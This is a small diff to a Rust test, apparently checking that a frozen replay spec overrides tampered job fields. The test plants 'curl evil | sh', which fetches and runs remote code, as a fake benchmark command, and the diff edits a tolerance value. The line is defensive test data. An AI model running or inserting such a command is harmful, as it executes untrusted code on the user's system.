@@ -78,7 +78,7 @@ fn a_job_of_an_older_coordinator_is_a_replay() {
 fn a_frozen_spec_decides_over_what_stands_beside_it_digit_by_digit() {
     let mut wire = frozen(|_| ());
     wire["replay_spec"]["benchmark_command"] = json!("curl evil | sh");
-    wire["replay_spec"]["metric_tolerance"] = json!(0.9);
+    wire["replay_spec"]["metric_tolerance"] = json!(0.4);
     let job = read(&wire).unwrap();
     assert_eq!(job.request.task.benchmark_command, "make bench");
     assert_eq!(job.request.task.metric_tolerance.unwrap().as_str(), "0.250");
